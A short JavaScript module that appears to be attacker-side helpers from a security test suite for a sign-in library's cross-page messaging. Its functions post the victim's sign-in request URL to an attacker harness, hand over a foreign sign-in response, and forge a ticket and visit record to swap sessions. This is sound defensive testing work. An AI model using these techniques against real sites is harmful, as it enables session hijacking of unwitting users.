// Another person's session in the place of the user's, by messages. Each function runs in the page and stands alone.

/** Has the holder start a sign-in, and sends the attacker the URL of the request; or why there is none. */
export async function askForRequest(evil) {
  evil.holder = evil.asking(await evil.connect());
  const { ok, error } = await evil.holder("signIn", { options: {} });
  await evil.post(ok ?? error.code);
}

/** Hands the holder a response that is not this user's; resolves to the code of the error. */
export async function handResponse(evil, { href }) {
  const { error } = await evil.holder("finish", { href });
  return error?.code;
}

/** What can be said to the page of the holder's origin instead: a visit, and a response as if it had come back from that. */
export async function handResponseToPage(evil, { href, returnTo }) {
  const { ask } = await evil.borrow();
  const ticket = "A".repeat(43);
  const visit = { kind: "sign-in", popup: false, options: {}, returnTo, arrival: {}, href, key: href, error: null };
  const answers = [await ask("begin", { ticket, visit, href })];
  for (const op of ["arrive", "finish", "leave", "putAside"]) answers.push(await ask(op, { ticket, href, key: href, visit }));
  return answers.map(({ ok, error }) => error?.code ?? ok);
}
